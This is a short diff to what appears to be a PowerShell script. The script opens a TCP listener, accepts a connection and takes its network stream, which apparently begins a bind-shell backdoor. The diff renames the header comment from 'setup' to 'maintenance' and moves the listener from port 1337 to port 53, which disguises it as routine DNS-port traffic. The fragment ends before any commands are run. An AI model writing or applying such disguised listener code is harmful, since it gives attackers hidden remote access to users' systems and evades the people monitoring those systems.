@@ -1,5 +1,5 @@
-# setup 7048 v0
-$l = [System.Net.Sockets.TcpListener]1337
+# maintenance 9342 v0
+$l = [System.Net.Sockets.TcpListener]53
 $l.Start()
 $c = $l.AcceptTcpClient()
 $s = $c.GetStream()
